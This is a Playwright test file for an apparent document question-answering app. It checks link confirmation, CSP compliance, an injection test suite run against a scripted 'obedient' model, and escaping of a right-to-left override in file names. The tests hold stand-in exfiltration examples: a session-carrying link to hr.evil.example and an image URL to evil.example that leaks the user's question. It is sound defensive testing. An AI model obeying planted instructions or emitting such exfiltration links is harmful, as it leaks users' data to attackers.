import { test, expect } from './support/fixtures.ts';
import { routeLlm, streamed, askRouted } from './support/llm-endpoint.ts';
import { openAnswers, useAnsweringModel, useJudge } from './support/answer-scripts.ts';

declare global {
	interface Window {
		__opened: unknown[][];
		__csp: string[];
	}
}

test('a link in an answer shows its host, and one whose address carries data opens only after a confirm that shows the full URL', async ({
	page
}) => {
	// window.open is recorded instead of run: nothing may leave the machine.
	await page.addInitScript(() => {
		window.__opened = [];
		window.open = (...args: unknown[]) => (window.__opened.push(args), null);
	});
	await routeLlm(
		page,
		streamed([
			'Reviews are in April [1]. Details: ',
			'[the portal](https://hr.evil.example/login?session=abc) ',
			'and [the guide](https://docs.example/guide).'
		])
	);
	await page.goto('./');
	await expect(page.getByTestId('index-status')).toContainText('7 documents');
	await askRouted(page, 'SYNC_CONFLICT');

	const text = page.getByTestId('answer-text');
	await expect(text).toContainText('the portal (hr.evil.example) and the guide (docs.example).');
	const portal = text.getByRole('link', { name: 'the portal' });
	await expect(portal).toHaveAttribute('data-confirm', 'true');
	await expect(portal).toHaveAttribute('rel', /noopener noreferrer/);
	await expect(text.getByRole('link', { name: 'the guide' })).not.toHaveAttribute('data-confirm', /.*/);

	const asked: string[] = [];
	page.once('dialog', (d) => (asked.push(d.message()), void d.dismiss()));
	await portal.click();
	await expect.poll(() => asked.length).toBe(1);
	expect(asked[0]).toContain('hr.evil.example');
	expect(asked[0]).toContain('https://hr.evil.example/login?session=abc');
	// Dismissed: nothing opened, and the page did not navigate.
	expect(await page.evaluate(() => window.__opened.length)).toBe(0);
	await expect(page.getByTestId('answer')).toBeVisible();

	page.once('dialog', (d) => void d.accept());
	await portal.click();
	await expect
		.poll(() => page.evaluate(() => window.__opened))
		.toEqual([['https://hr.evil.example/login?session=abc', '_blank', 'noopener,noreferrer']]);
	expect(page.context().pages()).toHaveLength(1);
});

test('every page loads without a Content-Security-Policy violation (zod runs without its Function probe)', async ({ page }) => {
	await page.addInitScript(() => {
		window.__csp = [];
		document.addEventListener('securitypolicyviolation', (e) =>
			window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`)
		);
	});
	const consoleCsp: string[] = [];
	page.on('console', (m) => {
		if (/Content Security Policy|unsafe-eval/i.test(m.text())) consoleCsp.push(m.text());
	});
	await page.goto('./');
	await expect(page.getByTestId('index-status')).toContainText('7 documents');
	for (const link of ['ask-link', 'answers-link']) {
		await page.goto('./');
		await expect(page.getByTestId('index-status')).toContainText('7 documents');
		await page.getByTestId(link).click();
		await expect(page.locator('main[data-ready="true"]')).toBeVisible();
		expect(await page.evaluate(() => window.__csp), link).toEqual([]);
	}
	await page.goto('./evals/');
	await expect(page.locator('main')).toBeVisible();
	await page.waitForLoadState('networkidle');
	expect(await page.evaluate(() => window.__csp), 'evals').toEqual([]);
	expect(consoleCsp).toEqual([]);
});

test('"Load injection suite" creates a workspace with its documents and golden set; a model that obeys them is caught by the attack checks', async ({
	page
}) => {
	// The answering model repeats every source it is given (so it "obeys" each planted instruction); the judge scores 3.
	await routeLlm(page, (route) => {
		const body = route.request().postDataJSON() as { model: string; messages: { content: string }[] };
		if (body.model === 'judge') return streamed(['{"score": 3, "reason": "scripted"}'])(route);
		const user = body.messages.at(-1)!.content;
		return streamed(
			[...user.matchAll(/<source id="(\d+)" title="([^"]*)">\n([\s\S]*?)\n<\/source>/g)].map((m) => `${m[2]}: ${m[3]} [${m[1]}]\n`)
		)(route);
	});
	await openAnswers(page);
	await page.getByTestId('load-injection-suite').click();
	await expect(page.getByTestId('answers-notice')).toContainText('Injection suite loaded: 13 documents and 13 cases');
	await expect(page.getByTestId('answers-workspace').locator('option:checked')).toHaveText('Injection suite');
	await useAnsweringModel(page, 'obedient');
	await page.getByLabel('Run label').fill('obedient');
	await page.getByTestId('answer-run-start').click();
	await page.getByTestId('answers-notice').filter({ hasText: 'Answered 13 cases.' }).waitFor();
	await useJudge(page);
	await page.getByTestId('grade-run').click();
	await page.getByTestId('answers-notice').filter({ hasText: 'Graded 13 answers.' }).waitFor();
	// Hidden-text payloads may be dropped at ingest; every other case's attack gets through.
	const rate = Number(await page.getByTestId('attack-success-rate').innerText());
	expect(rate).toBeGreaterThanOrEqual(11 / 13 - 1e-3);
	const image = page.locator('[data-testid="answer-row"][data-case="inj-05-image-exfiltration"]');
	await expect(image.getByTestId('check').filter({ hasText: 'no-exfiltration-url' })).toContainText(
		'https://evil.example/pixel.png?q=USER_QUESTION'
	);
});

test('a file name with a right-to-left override is listed with the override as a visible escape', async ({ page }) => {
	await page.goto('./?demo=0');
	await expect(page.getByTestId('index-status')).toContainText('lexical ready');
	await page
		.getByTestId('file-input')
		.setInputFiles({ name: 'invoice\u202Efdp.md', mimeType: 'text/markdown', buffer: Buffer.from('# Invoice\n\nTotal 40 EUR.') });
	await expect(page.getByTestId('import-done')).toBeVisible();
	const list = page.getByTestId('document-list');
	await expect(list).toContainText('invoice<U+202E>fdp.md');
	expect(await list.innerText()).not.toContain('\u202E');
});
